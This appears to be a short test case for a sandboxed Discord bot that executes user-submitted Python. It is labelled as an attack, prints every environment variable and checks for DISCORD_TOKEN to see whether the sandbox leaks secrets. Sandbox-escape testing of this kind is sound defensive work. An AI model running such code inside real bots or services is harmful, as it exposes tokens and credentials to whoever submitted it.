# attack: looks for the bot's environment, the token first
# end: ok
# says: done

import os

for key, value in {**os.environ}.items():
    print("ESCAPED", key, value)
if os.environb or os.getenv("DISCORD_TOKEN") or os.getenv("PATH"):
    print("ESCAPED")
print("done")
